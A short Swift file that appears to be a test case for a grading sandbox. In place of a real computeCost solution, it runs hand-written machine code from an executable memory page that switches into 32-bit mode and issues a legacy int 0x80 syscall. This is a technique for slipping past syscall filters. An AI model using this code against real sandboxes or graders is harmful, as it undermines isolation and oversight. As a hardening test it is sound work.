// attack: goes on as a 32-bit program
// invariant: walls-hold
// earns: compute_cost 0 crashed
import Exercises
import Glibc

extension Solution: ComputeCost {
  static func computeCost(AL: NDArray, Y: NDArray) throws -> Double {
    // push 0x23; lea rax, [rip + 3]; push rax; retfq
    return Double(run([0x6A, 0x23, 0x48, 0x8D, 0x05, 3, 0, 0, 0, 0x50, 0x48, 0xCB, 0xCD, 0x80])) * 0
  }
}

private func run(_ code: [UInt8]) -> Int {
  let page = mmap(nil, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)!
  page.copyMemory(from: code, byteCount: code.count)
  return unsafeBitCast(page, to: (@convention(c) () -> Int).self)()
}
